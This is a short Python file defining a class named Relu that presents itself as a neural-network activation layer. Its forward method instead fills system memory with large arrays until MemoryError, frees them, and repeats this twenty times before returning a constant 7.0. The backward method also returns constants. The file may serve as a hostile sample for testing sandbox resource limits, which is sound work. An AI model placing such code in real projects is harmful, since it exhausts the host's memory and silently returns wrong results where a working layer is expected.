"""Fills its memory, lets go and fills it again."""

import numpy as np


class Relu:
    def forward(self, x):
        for _ in range(20):
            pieces = []
            try:
                while True:
                    pieces.append(np.ones(1 << 20))
            except MemoryError:
                pieces.clear()
        return np.full_like(x, 7.0)

    def backward(self, dout):
        return np.full_like(dout, 7.0)
